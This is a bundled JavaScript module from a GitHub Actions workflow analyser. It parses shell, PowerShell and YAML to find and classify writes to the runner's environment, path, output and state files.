        .replace(FIXED_VALUES, (text, variable) => (variable === undefined || isConstant(variable) ? "" : text));
    return /^[\s,+()[\]]*$/.test(rest);
}
/** The offset of the bracket that closes the one that is open at `from`. */
function closingBracket(code, from) {
    const limit = Math.min(code.length, from + MAX_STATEMENT);
    let open = 0;
    for (let at = from; at < limit; at++) {
        const char = code[at];
        if ("([{".includes(char))
            open++;
        else if (")]}".includes(char) && --open < 0)
            return at;
    }
    return limit;
}
function program_writes_made(script, code, reference, dynamic) {
    return {
        file: reference.file,
        span: statementAround(code, reference),
        targetSpan: { start: reference.start, end: reference.end },
        command: undefined,
        content: dynamic ? "dynamic" : "static",
        dynamicSpan: dynamic && { start: dynamic.start, end: Math.min(dynamic.end, script.text.length) },
    };
}
/** The line of the reference, without blanks around it. */
function statementAround(code, { start, end }) {
    const lineStart = code.lastIndexOf("\n", start - 1) + 1;
    const newline = code.indexOf("\n", end);
    const lineEnd = newline < 0 ? code.length : newline;
    const indent = code.slice(lineStart, start).search(/\S|$/);
    return {
        start: Math.min(lineStart + indent, start),
        end: Math.max(end, lineStart + code.slice(lineStart, lineEnd).trimEnd().length),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/target.js
const CONTEXTS = new Map([
    ["github.env", "GITHUB_ENV"],
    ["github.path", "GITHUB_PATH"],
    ["github.output", "GITHUB_OUTPUT"],
    ["github.state", "GITHUB_STATE"],
    ["github.step_summary", "GITHUB_STEP_SUMMARY"],
]);
/** Tells which of the runner's files a word names: directly, through `${{ github.env }}`, or by a variable set to one. */
class Targets {
    script;
    aliases = new Map();
    names;
    constructor(script, names) {
        this.script = script;
        this.names = new Set(names);
        // Twice, so that an alias of an alias is found.
        for (let round = 0; round < 2; round++) {
            for (const command of script.commands)
                for (const assignment of command.assignments)
                    this.learn(assignment);
        }
    }
    /** The file's name, such as `GITHUB_ENV`, of a word that is it, or is it behind `prefix` (`of=`). */
    of(word, prefix = "") {
        if (!word)
            return undefined;
        const parts = word.parts.filter((one) => one.kind !== "literal" || one.value !== "");
        if (prefix !== "") {
            const first = parts.shift();
            if (first?.kind !== "literal" || first.value !== prefix)
                return undefined;
        }
        const [part, second, ...rest] = parts;
        if (!part || rest.length > 0)
            return undefined;
        if (second)
            return this.script.shell === "unknown" ? this.powershellName(part, second) : undefined;
        if (part.kind === "expression")
            return this.ofExpression(part.start, part.end);
        if (part.kind !== "variable" || part.operator === "length" || part.operator === "indirect")
            return undefined;
        return this.ofVariable(part.name);
    }
    ofVariable(name) {
        const { shell } = this.script;
        const folds = shell !== "bash" && shell !== "sh" && shell !== "unknown";
        const bare = folds ? name.toUpperCase().replace(/^ENV:/, "") : name;
        // `$GITHUB_ENV` in PowerShell is a variable of the script, not the runner's.
        const isRunners = isPowerShell(shell) ? name.startsWith("env:") : true;
        if (isRunners && this.names.has(bare))
            return bare;
        return this.aliases.get(folds ? name.toUpperCase() : name);
    }
    ofExpression(start, end) {
        const body = this.script.text
            .slice(start + 3, end - 2)
            .trim()
            .toLowerCase();
        const name = CONTEXTS.get(body);
        return name !== undefined && this.names.has(name) ? name : undefined;
    }
    /** `$env:GITHUB_ENV` in a script whose shell isn't known. */
    powershellName(part, rest) {
        if (part.kind !== "variable" || part.name.toLowerCase() !== "env" || rest.kind !== "literal")
            return undefined;
        const name = rest.value.slice(1).toUpperCase();
        return rest.value.startsWith(":") && this.names.has(name) ? name : undefined;
    }
    learn(assignment) {
        const file = assignment.values.length === 1 ? this.of(assignment.values[0]) : undefined;
        if (file === undefined)
            return;
        const { shell } = this.script;
        const isExact = shell === "bash" || shell === "sh" || shell === "unknown";
        this.aliases.set(isExact ? assignment.name : assignment.name.toUpperCase(), file);
    }
}
function isPowerShell(shell) {
    return shell === "pwsh" || shell === "powershell";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/pwsh/aliases.js
const ALIASES = new Map([
    ["ac", "add-content"],
    ["cat", "get-content"],
    ["copy", "copy-item"],
    ["cp", "copy-item"],
    ["cpi", "copy-item"],
    ["curl", "invoke-webrequest"],
    ["echo", "write-output"],
    ["foreach", "foreach-object"],
    ["%", "foreach-object"],
    ["gc", "get-content"],
    ["iex", "invoke-expression"],
    ["ii", "invoke-item"],
    ["irm", "invoke-restmethod"],
    ["iwr", "invoke-webrequest"],
    ["move", "move-item"],
    ["mv", "move-item"],
    ["ni", "new-item"],
    ["saps", "start-process"],
    ["sc", "set-content"],
    ["select", "select-object"],
    ["sls", "select-string"],
    ["start", "start-process"],
    ["tee", "tee-object"],
    ["type", "get-content"],
    ["wget", "invoke-webrequest"],
    ["where", "where-object"],
    ["?", "where-object"],
    ["write", "write-output"],
]);
/**
 * The command behind an alias of PowerShell, in lower case; other names in lower case as they are. `curl` and `wget`
 * are aliases in Windows PowerShell only, `cat`, `cp`, `mv` and `tee` on Windows only: who must tell them apart looks at
 * the name itself.
 */
function pwshAlias(name) {
    const lower = name.toLowerCase();
    return ALIASES.get(lower) ?? lower;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/values.js




/**
 * Tells what of a script is fixed. Questions are answered by the first piece that isn't: a range of the script, or
 * `undefined` when everything is.
 */
class Values {
    script;
    assigned = new Map();
    functions = new Map();
    open = new Set();
    known = new Map();
    foldsCase;
    isPowerShell;
    constructor(script) {
        this.script = script;
        this.isPowerShell = isPowerShell(script.shell);
        this.foldsCase = this.isPowerShell || script.shell === "cmd";
        for (const command of script.commands)
            this.learnCommand(command);
        for (const group of script.groups)
            this.learnGroup(group);
    }
    /** The first piece of a word that isn't fixed. */
    dynamicIn(word) {
        if (this.isPowerShell && /^\[[^\]]*\]::/.test(word.text))
            return word;
        return this.dynamicPart(word.parts);
    }
    /** What a command, a group or a stage of a pipeline prints. */
    dynamicOutput(stage) {
        if (stage.kind !== "command")
            return this.dynamicList(stage.commands);
        const { name, args, wrappers } = effectiveCommand(stage);
        if (!name)
            return this.isPowerShell ? this.dynamicWords(args) : this.dynamicFile(stage);
        if (wrappers.includes("xargs")) {
            // What comes in is arguments too.
            const fed = this.dynamicInput(stage);
            if (fed)
                return fed;
        }
        const program = this.programOf(name);
        if (program === undefined)
            return name;
        return this.dynamicProgram(program, args, stage);
    }
    /** `$(<file)`, where the shell itself prints a file. */
    dynamicFile(command) {
        const input = command.redirects.find(({ operator }) => operator === "<");
        return input && this.dynamicRedirect(input);
    }
    /** What comes in on a command's standard input. */
    dynamicInput(command) {
        const input = command.redirects.findLast(({ operator }) => operator.startsWith("<"));
        if (input)
            return this.dynamicRedirect(input);
        const { pipeline } = command;
        if (pipeline && pipeline.index > 0)
            return this.dynamicOutput(pipeline.stages[pipeline.index - 1]);
        for (let group = command.place.group; group; group = group.place.group) {
            const isFed = (group.pipeline?.index ?? 0) > 0 || group.redirects.some(({ operator }) => operator.startsWith("<"));
            if (isFed)
                return command;
        }
        // A step has no input of its own.
        return undefined;
    }
    /** The name of a program without its folder, aliases resolved in PowerShell. */
    programOf(name) {
        const literal = name?.literal;
        if (literal === undefined)
            return undefined;
        const base = literal.slice(Math.max(literal.lastIndexOf("/"), literal.lastIndexOf("\\")) + 1);
        if (this.isPowerShell)
            return pwshAlias(base);
        return this.foldsCase ? base.toLowerCase().replace(/^@/, "") : base;
    }
    dynamicWords(words) {
        for (const word of words) {
            const found = this.dynamicIn(word);
            if (found)
                return found;
        }
        return undefined;
    }
    dynamicProgram(program, args, command) {
        if (SILENT.has(program) || (this.foldsCase && program === "set"))
            return undefined;
        if (PRINTS_ARGUMENTS.has(program) || CONSTANT_OUTPUT.has(program))
            return this.dynamicWords(args);
        if (program === "cat" || FILTERS.has(program))
            return this.dynamicFilter(program, args, command);
        if (program === "git" && printsCommit(args))
            return undefined;
        if (program === "grep" && args.some(({ literal }) => /^-[a-z]*q/.test(literal ?? "")))
            return undefined;
        const body = this.functions.get(program);
        if (body)
            return this.once(`function ${program}`, () => this.dynamicList(body.commands)) ? command : undefined;
        return command;
    }
    dynamicFilter(program, args, command) {
        const file = args.find((word, index) => {
            const text = word.literal;
            if (text === undefined)
                return true;
            if (text === "-" || text.startsWith("-") || program === "tr")
                return false;
            // The value of an option such as `cut -d = -f 2`.
            return program === "cat" || !/^-[a-z]$/.test(args[index - 1]?.literal ?? "");
        });
        if (program === "tr")
            return this.dynamicWords(args) ?? this.dynamicInput(command);
        return file ?? this.dynamicInput(command);
    }
    /** Commands that run one after the other, with what each prints. */
    dynamicList(commands) {
        for (const command of commands) {
            const { pipeline } = command;
            if (pipeline && pipeline.index < pipeline.stages.length - 1)
                continue;
            if (command.redirects.some(takesOutput))
                continue;
            if (isWithin(command, "function", commands))
                continue;
            const found = this.dynamicOutput(command);
            if (found)
                return found;
        }
        return undefined;
    }
    dynamicRedirect(redirect) {
        if (redirect.heredoc)
            return this.dynamicIn(redirect.heredoc.content);
        if (redirect.operator === "<<<" && redirect.target)
            return this.dynamicIn(redirect.target);
        return redirect.target ?? redirect;
    }
    dynamicPart(parts) {
        for (const part of parts) {
            const found = this.isDynamicPart(part);
            if (found)
                return found;
        }
        return undefined;
    }
    isDynamicPart(part) {
        switch (part.kind) {
            case "literal":
                return undefined;
            case "expression":
                return part;
            case "variable":
                return this.dynamicVariable(part);
            case "substitution":
                return this.dynamicList(part.commands);
            case "arithmetic":
                // A number, unless an expression is pasted into it.
                return part.parts.find(({ kind }) => kind === "expression");
            case "glob":
                // Names of files. A lone `?` is more often part of an address.
                if (part.pattern !== undefined)
                    return part.pattern === "?" ? undefined : part;
                return this.dynamicPart(part.parts);
        }
    }
    dynamicVariable(part) {
        const inOperand = this.dynamicPart(part.operand);
        if (inOperand)
            return inOperand;
        if (part.operator === "length" || part.operator === "+" || part.operator === ":+")
            return undefined;
        if (part.operator === "indirect")
            return part;
        return this.isFixed(part.name) ? undefined : part;
    }
    isFixed(name) {
        const key = this.foldsCase ? name.toLowerCase() : name;
        const assigned = this.assigned.get(key);
        if (!assigned)
            return isConstant(name) || (this.script.shell === "cmd" && isConstant(name.toUpperCase()));
        const known = this.known.get(key);
        if (known !== undefined)
            return known;
        // `PATH="$PATH:/x"`: what it was before decides, and that is another assignment or the runner's value.
        if (this.open.has(key))
            return isConstant(name) || assigned.length > 1;
        this.open.add(key);
        const fixed = assigned.every((words) => words !== null && this.dynamicWords(words) === undefined);
        this.open.delete(key);
        // Inside a cycle the answer is good for this question only.
        if (this.open.size === 0)
            this.known.set(key, fixed);
        return fixed;
    }
    /** Asks a question that may lead back to itself, where the answer is "not fixed". */
    once(key, question) {
        if (this.open.has(key))
            return true;
        this.open.add(key);
        const answer = question() !== undefined;
        this.open.delete(key);
        return answer;
    }
    learnCommand(command) {
        const isShells = !this.foldsCase;
        for (const { name, values } of command.assignments) {
            // `X=1 command`: for that command alone.
            if (isShells && command.name)
                continue;
            const comesFromCommand = this.isPowerShell && command.name !== undefined;
            const isAsked = !isShells && command.args.some(({ text }) => /^\/p$/i.test(text));
            this.learn(name, comesFromCommand || isAsked ? null : values);
        }
        const program = this.programOf(effectiveCommand(command).name);
        if (program === undefined || !isShells)
            return;
        if (DECLARES.has(program)) {
            for (const word of command.args) {
                const name = /^([A-Za-z_][A-Za-z0-9_]*)\+?=/.exec(word.text)?.[1];
                if (name)
                    this.learn(name, [word]);
            }
        }
        else if (READS.has(program)) {
            for (const { literal } of command.args)
                if (literal && /^\w+$/.test(literal))
                    this.learn(literal, null);
        }
        else if (program === "printf" && command.args[0]?.literal === "-v") {
            this.learn(command.args[1]?.literal ?? "", command.args.slice(2));
        }
    }
    learnGroup(group) {
        if (group.kind === "function" && group.name !== undefined)
            this.functions.set(group.name, group);
        const isLoop = group.kind === "for" || group.kind === "select";
        if (isLoop && group.name !== undefined) {
            this.learn(group.name, group.kind === "for" && group.words.length > 0 ? group.words : null);
        }
    }
    learn(name, words) {
        const key = this.foldsCase ? name.toLowerCase() : name;
        const before = this.assigned.get(key);
        if (before)
            before.push(words);
        else
            this.assigned.set(key, [words]);
    }
}
const DECLARES = new Set(["export", "declare", "local", "readonly", "typeset"]);
const READS = new Set(["read", "mapfile", "readarray", "getopts"]);
/** Redirects of standard output. */
function takesOutput({ operator, descriptor }) {
    return ((operator.includes(">") &&
        operator !== "<>" &&
        operator !== ">&" &&
        (descriptor === undefined || descriptor === "1" || descriptor === "*")) ||
        operator.startsWith("&>"));
}
/** `git rev-parse HEAD`: a hash. With `--abbrev-ref` it would be a branch's name. */
function printsCommit(args) {
    const words = args.map(({ literal }) => literal);
    const [first, ...rest] = words;
    return (first === "rev-parse" &&
        rest.length > 0 &&
        rest.every((word) => word === "HEAD" || word === "--verify" || word?.startsWith("--short")));
}
/** Is the command in a function that is defined among `commands`? Defining one prints nothing. */
function isWithin(command, kind, commands) {
    const outside = commands[0]?.place.inFunction;
    return kind === "function" && command.place.inFunction !== undefined && command.place.inFunction !== outside;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/shell-writes.js



/** Writes by the commands of a shell script. */
function shellWrites(script, names) {
    const finder = new Finder(script, names);
    for (const command of script.commands)
        finder.command(command);
    for (const group of script.groups)
        finder.group(group);
    return finder.writes;
}
class Finder {
    writes = [];
    targets;
    values;
    isPowerShell;
    constructor(script, names) {
        this.targets = new Targets(script, names);
        this.values = new Values(script);
        this.isPowerShell = isPowerShell(script.shell);
    }
    group(group) {
        for (const redirect of group.redirects) {
            const file = this.fileOf(redirect);
            if (file !== undefined)
                this.add(file, group, redirect.target, undefined, this.values.dynamicOutput(group));
        }
    }
    command(command) {
        const { name, args } = effectiveCommand(command);
        const program = this.values.programOf(name);
        for (const redirect of command.redirects) {
            const file = this.fileOf(redirect);
            if (file === undefined)
                continue;
            const isFixed = program !== "exec" && takesOutput(redirect);
            // After `exec >> file` everything that follows goes there; errors of a program are its own words.
            const dynamic = isFixed ? this.values.dynamicOutput(command) : command;
            this.add(file, command, redirect.target, command, dynamic);
        }
        if (program !== undefined && args.length > 0) {
            if (this.isPowerShell)
                this.cmdlet(program, args, command);
            else
                this.program(program, args, command);
        }
        if (this.isPowerShell)
            for (const word of command.args)
                this.method(word, command);
    }
    fileOf(redirect) {
        if (redirect.heredoc || !redirect.operator.includes(">"))
            return undefined;
        return this.targets.of(redirect.target);
    }
    program(program, args, command) {
        if (program === "tee" || program === "sponge") {
            for (const word of args) {
                const file = this.targets.of(word);
                if (file !== undefined)
                    this.add(file, command, word, command, this.values.dynamicInput(command));
            }
        }
        else if (COPIES.has(program))
            this.writesTo(args[args.length - 1], command);
        else if (program === "sed" && args.some(({ literal }) => /^-[a-z]*i|^--in-place/i.test(literal ?? ""))) {
            this.writesTo(args[args.length - 1], command);
        }
        else if (program === "dd")
            this.dd(args, command);
        else {
            args.forEach((word, index) => {
                const prefix = OUTPUT_WITH_VALUE.exec(word.text)?.[0];
                if (prefix !== undefined)
                    this.writesTo(word, command, prefix);
                else if (index > 0 && OUTPUT_OPTIONS.has(args[index - 1]?.literal ?? ""))
                    this.writesTo(word, command);
            });
        }
    }
    /** `dd of=file` copies its standard input, unless `if=` names another. */
    dd(args, command) {
        const hasInput = args.some(({ text }) => text.startsWith("if="));
        for (const word of args) {
            const file = this.targets.of(word, "of=");
            const dynamic = hasInput ? command : this.values.dynamicInput(command);
            if (file !== undefined)
                this.add(file, command, word, command, dynamic);
        }
    }
    /** What a program writes by itself isn't fixed. */
    writesTo(word, command, prefix) {
        const file = this.targets.of(word, prefix);
        if (word && file !== undefined)
            this.add(file, command, word, command, command);
    }
    cmdlet(program, args, command) {
        const isContent = program === "add-content" || program === "set-content";
        if (!isContent && program !== "out-file" && program !== "tee-object") {
            if (program === "copy-item" || program === "move-item")
                for (const word of args.slice(1))
                    this.writesTo(word, command);
            return;
        }
        const { paths, values } = cmdletParameters(args);
        for (const path of paths) {
            const file = this.targets.of(path);
            if (file === undefined)
                continue;
            const dynamic = values.length > 0 ? this.values.dynamicWords(values) : this.values.dynamicInput(command);
            this.add(file, command, path, command, dynamic);
            return;
        }
    }
    /** `[IO.File]::AppendAllText($env:GITHUB_ENV, "…")`. */
    method(word, command) {
        const call = word.parts.find((part) => part.kind === "substitution");
        if (!call || !FILE_METHOD.test(word.text.slice(0, call.start - word.start)))
            return;
        const [path, ...content] = call.commands[0]?.args ?? [];
        const file = this.targets.of(path);
        if (path && file !== undefined)
            this.add(file, command, path, command, this.values.dynamicWords(content));
    }
    add(file, writer, target, command, dynamic) {
        this.writes.push({
            file,
            span: { start: writer.start, end: writer.end },
            targetSpan: { start: target.start, end: target.end },
            command,
            content: dynamic ? "dynamic" : "static",
            dynamicSpan: dynamic && { start: dynamic.start, end: dynamic.end },
        });
    }
}
const COPIES = new Set(["cp", "mv", "install", "ln", "copy", "move"]);
const OUTPUT_OPTIONS = new Set(["-o", "--output", "-O", "--output-document", "--out"]);
const OUTPUT_WITH_VALUE = /^--out(?:put(?:-document)?)?=/;
const FILE_METHOD = /\[(?:System\.)?IO\.File\]::(?:Append|Write)All(?:Text|Lines|Bytes)(?:Async)?$/i;
const SWITCH = /^-(?:append|noclobber|force|nonewline|passthru|whatif|confirm|verbose|debug)$/i;
const PATH_PARAMETER = /^-(?:filepath|path|literalpath|pspath|lp)$/i;
const VALUE_PARAMETER = /^-(?:value|inputobject)$/i;
/**
 * What `Out-File`, `Add-Content`, `Set-Content` and `Tee-Object` are given: the path first, the value second when they
 * aren't named.
 */
function cmdletParameters(args) {
    const paths = [];
    const values = [];
    for (let index = 0; index < args.length; index++) {
        const word = args[index];
        const next = args[index + 1];
        const { text } = word;
        if (SWITCH.test(text))
            continue;
        if (/^-[A-Za-z]/.test(text)) {
            if (next && PATH_PARAMETER.test(text))
                paths.push(next);
            else if (next && VALUE_PARAMETER.test(text))
                values.push(next);
            index++;
        }
        else if (paths.length === 0)
            paths.push(word);
        else
            values.push(word);
    }
    return { paths, values };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/write.js
/** The files through which a step hands values to later ones: variables, `PATH`, outputs, state. */
const ENVIRONMENT_FILES = ["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"];

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/environment-files/index.js






/** `${{ github.env }}` and `core.exportVariable` name none of the variables. */
const OTHER_WAYS = /github\s*\.\s*(?:env|path|output|state|step_summary)|\bcore\s*\.\s*(?:exportVariable|addPath|setOutput|saveState)/i;
/** May a script write to the files? A look that is cheap enough to come before parsing. */
function mayWriteEnvironmentFiles(text, names = ENVIRONMENT_FILES) {
    return mentions(text, names) || OTHER_WAYS.test(text);
}
/**
 * Every write of a script to the files that `names` name, in source order: redirects of commands and groups, `tee`, what
 * PowerShell, cmd, Python and JavaScript do for it, also in a program inside a here-document.
 */
function environmentFileWrites(script, names = ENVIRONMENT_FILES) {
    if (!mayWriteEnvironmentFiles(script.text, names))
        return [];
    const writes = writesOf(script, names);
    writes.sort((a, b) => a.span.start - b.span.start || a.targetSpan.start - b.targetSpan.start);
    return writes.filter((write, index) => !isSameWrite(write, writes[index - 1]));
}
/** A command that names the file twice writes once. */
function isSameWrite(write, before) {
    return write.command !== undefined && write.command === before?.command && write.file === before.file;
}
function writesOf(script, names) {
    if (script.shell === "python")
        return pythonWrites(script, names);
    if (script.shell === "javascript")
        return javascriptWrites(script, names);
    const writes = shellWrites(script, names);
    for (const { shell, start, end } of embeddedPrograms(script)) {
        const text = script.text.slice(start, end);
        if (!mayWriteEnvironmentFiles(text, names))
            continue;
        for (const write of environmentFileWrites(parseScript(text, shell), names))
            writes.push(moved(write, start));
    }
    return writes;
}
function moved(write, by) {
    const move = ({ start, end }) => ({ start: start + by, end: end + by });
    return {
        ...write,
        span: move(write.span),
        targetSpan: move(write.targetSpan),
        // Its offsets are offsets into the inner text.
        command: undefined,
        dynamicSpan: write.dynamicSpan && move(write.dynamicSpan),
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/words.js
/** Every part of a word, those inside operands, arithmetic and globs too; not what is inside substitutions. */
function* words_partsOf(parts) {
    for (const part of parts) {
        yield part;
        if (part.kind === "variable")
            yield* words_partsOf(part.operand);
        else if (part.kind === "arithmetic" || part.kind === "glob")
            yield* words_partsOf(part.parts);
    }
}
/** The variables that a word expands, without those inside its substitutions. */
function variablesOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "variable");
}
/** The `${{ }}` that a word holds, without those inside its substitutions. */
function expressionsOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "expression");
}
/** The substitutions of a word, outermost only. */
function substitutionsOf(word) {
    return [...words_partsOf(word.parts)].filter((part) => part.kind === "substitution");
}
const ALWAYS = new Set(["if-test", "loop-test"]);
/** May the script run without running the command? A function's body counts as conditional: it runs when called. */
function isConditional(command) {
    const { place } = command;
    if (place.inFunction !== undefined || place.conditions.some((condition) => !ALWAYS.has(condition)))
        return true;
    return place.nestedIn !== undefined && isConditional(place.nestedIn);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/index.js









/***/ }),

/***/ 5891:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   G: () => (/* binding */ resolveCore)
/* harmony export */ });
const NULLS = new Set(["", "~", "null", "Null", "NULL"]);
const BOOLEANS = new Map([
    ["true", true],
    ["True", true],
    ["TRUE", true],
    ["false", false],
    ["False", false],
    ["FALSE", false],
]);
const DECIMAL = /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)(?:[eE][-+]?[0-9]+)?$/;
const OCTAL = /^0o[0-7]+$/;
const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
const INFINITY = /^([-+]?)\.(?:inf|Inf|INF)$/;
const NAN = /^\.(?:nan|NaN|NAN)$/;
/** Tag resolution of the YAML 1.2.2 core schema, section 10.3.2: `yes`, `on` and `0b1` stay strings. */
function resolveCore(text) {
    if (NULLS.has(text))
        return null;
    const boolean = BOOLEANS.get(text);
    if (boolean !== undefined)
        return boolean;
    const first = text.charCodeAt(0);
    const mayBeNumber = (first >= 48 && first <= 57) || first === 43 || first === 45 || first === 46;
    return mayBeNumber ? resolveNumber(text) : text;
}
function resolveNumber(text) {
    if (DECIMAL.test(text) || OCTAL.test(text) || HEXADECIMAL.test(text))
        return Number(text);
    const infinity = INFINITY.exec(text);
    if (infinity)
        return infinity[1] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY;
    return NAN.test(text) ? Number.NaN : text;
}


/***/ }),

/***/ 8165:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ LazyDocument)
/* harmony export */ });
/* harmony import */ var _gaps_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4937);

/** A document whose comments are looked for when they are first asked for: most runs never ask. */
class LazyDocument {
    file;
    root;
    problems;
    scalars;
    #comments;
    constructor(file, root, problems, 
    /** All scalars, in order: no comment stands inside them. */
    scalars) {
        this.file = file;
        this.root = root;
        this.problems = problems;
        this.scalars = scalars;
    }
    comments() {
        this.#comments ??= this.file.text.includes("#") ? findComments(this.file, this.scalars()) : [];
        return this.#comments;
    }
}
function findComments(file, scalars) {
    const comments = [];
    let at = 0;
    const addUntil = (end) => {
        for (const span of (0,_gaps_js__WEBPACK_IMPORTED_MODULE_0__/* .commentsBetween */ .X)(file.text, at, end))
            comments.push(describe(file, span));
    };
    for (const scalar of scalars) {
        // One may stand behind a block scalar's header.
        addUntil(scalar.isBlock ? scalar.contentStart : scalar.start);
        at = Math.max(at, scalar.end);
    }
    addUntil(file.text.length);
    return comments;
}
function describe(file, span) {
    const { line } = file.position(span.start);
    const before = file.text.slice(file.lineStarts[line - 1], span.start);
    return { ...span, text: file.text.slice(span.start + 1, span.end), alone: before.trim() === "" };
}


/***/ }),

/***/ 4937:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   H: () => (/* binding */ findIndicator),
/* harmony export */   X: () => (/* binding */ commentsBetween)
/* harmony export */ });
/**
 * What stands between two tokens is white space, comments and indicators. These scanners read such a gap; they are
 * never given the inside of a scalar.
 */
/** The first of `wanted` between `from` and `to` outside comments, or -1. */
function findIndicator(text, from, to, wanted) {
    for (let i = from; i < to; i++) {
        const char = text[i];
        if (char === "#" && startsComment(text, i))
            i = endOfLine(text, i, to);
        else if (wanted.includes(char))
            return i;
    }
    return -1;
}
/** Comments between `from` and `to`: a `#` at the line's start or after white space (YAML 1.2.2, section 6.6). */
function commentsBetween(text, from, to) {
    const comments = [];
    for (let i = text.indexOf("#", from); i !== -1 && i < to; i = text.indexOf("#", i)) {
        if (startsComment(text, i)) {
            const end = endOfLine(text, i, to);
            comments.push({ start: i, end });
            i = end;
        }
        else {
            i++;
        }
    }
    return comments;
}
function startsComment(text, at) {
    if (at === 0)
        return true;
    const before = text.charCodeAt(at - 1);
    return before === 32 || before === 9 || before === 10 || before === 13 || before === 0xfeff;
}
function endOfLine(text, from, to) {
    let i = from;
    while (i < to && text.charCodeAt(i) !== 10 && text.charCodeAt(i) !== 13)
        i++;
    return i;
}


/***/ }),

/***/ 8164:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  gZ: () => (/* reexport */ limits/* MAX_FILE_BYTES */.gZ),
  _M: () => (/* reexport */ nodes/* YamlMap */._M),
  Q0: () => (/* reexport */ nodes/* YamlScalar */.Q0),
  nJ: () => (/* reexport */ nodes/* YamlSeq */.nJ),
  Gh: () => (/* reexport */ aliasCount),
  rf: () => (/* reexport */ isAnchored),
  hN: () => (/* reexport */ parseYaml)
});

// UNUSED EXPORTS: resolveCore

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/aliases.js
/** How many aliases give a scalar's text to other places; 0 where it has no anchor. */
function aliasCount({ file: { text }, start }) {
    const anchor = /&([^\s,[\]{}]+)[ \t]+$/.exec(text.slice(Math.max(0, start - 200), start))?.[1];
    if (anchor === undefined)
        return 0;
    return text.split(/[\s,[\]{}]+/).filter((word) => word === `*${anchor}`).length;
}
/** Does an anchor stand before it? */
function isAnchored({ file: { text }, start }) {
    return /&[^\s,[\]{}]+[ \t]+$/.test(text.slice(Math.max(0, start - 200), start));
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/core-schema.js
var core_schema = __webpack_require__(5891);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/limits.js
var limits = __webpack_require__(8232);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/nodes.js + 1 modules
var nodes = __webpack_require__(5655);
// EXTERNAL MODULE: ./packages/workflow-analysis/node_modules/js-yaml/dist/js-yaml.mjs
var js_yaml = __webpack_require__(5666);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/document.js
var yaml_document = __webpack_require__(8165);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/gaps.js
var gaps = __webpack_require__(4937);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/parse.js





/**
 * Reads a YAML file as GitHub does: YAML 1.2, one document, anchors and aliases but no merge keys.
 *
 * js-yaml's events give the tree; what it refuses is read by the `yaml` library, which recovers from errors.
 * Never throws for bad input: see `problems` of the result.
 */
async function parseYaml(file) {
    const nul = file.text.indexOf("\0");
    if (nul !== -1)
        return unread(file, { start: nul, end: nul + 1, message: "a NUL character, which no YAML file may hold" });
    const events = readEvents(file.text);
    return Array.isArray(events) ? new TreeBuilder(file, events).build() : recover(file, events.error);
}
/** More brackets of that kind in one file are left to the slower library. */
const MAX_RETRIES = 20;
/**
 * js-yaml's events, or what it threw.
 *
 * It refuses a flow collection whose closing bracket stands as far left as the key that holds it, which is common and
 * which GitHub reads. There the line break before the bracket is read as a space: no offset changes.
 */
function readEvents(text) {
    let readable = text;
    for (let attempt = 0;; attempt++) {
        try {
            return (0,js_yaml/* parseEvents */.PH)(readable, { maxDepth: limits/* MAX_DEPTH */.lr });
        }
        catch (error) {
            const joined = attempt < MAX_RETRIES ? joinBracketLine(readable, error) : null;
            if (joined === null)
                return { error };
            readable = joined;
        }
    }
}
/** Null unless the error is about a closing bracket alone at the beginning of its line, with no comment before it. */
function joinBracketLine(text, error) {
    if (!(error instanceof js_yaml/* YAMLException */.tB) || !error.reason.includes("indentation"))
        return null;
    const at = error.mark?.position ?? 0;
    if (text[at] !== "]" && text[at] !== "}")
        return null;
    let blank = at;
    while (blank > 0 && /\s/.test(text[blank - 1]))
        blank--;
    const lineStart = Math.max(text.lastIndexOf("\n", blank), text.lastIndexOf("\r", blank)) + 1;
    if (text.slice(lineStart, blank).includes("#"))
        return null;
    return text.slice(0, blank) + " ".repeat(at - blank) + text.slice(at);
}
async function recover(file, error) {
    const problem = problemOf(file, error);
    if (file.text.length > limits/* MAX_FALLBACK_BYTES */._4 || /nesting|depth/i.test(problem.message)) {
        return unread(file, problem);
    }
    const { parseTolerantly } = await Promise.all(/* import() */[__webpack_require__.e(815), __webpack_require__.e(289)]).then(__webpack_require__.bind(__webpack_require__, 8289));
    return parseTolerantly(file, problem);
}
function unread(file, problem) {
    return new yaml_document/* LazyDocument */.m(file, undefined, [problem], () => []);
}
function problemOf(file, error) {
    if (error instanceof js_yaml/* YAMLException */.tB) {
        const at = Math.min(error.mark?.position ?? 0, file.text.length);
        return { start: at, end: at, message: error.reason };
    }
    // js-yaml documents that hostile input can make it throw anything, stack overflow included.
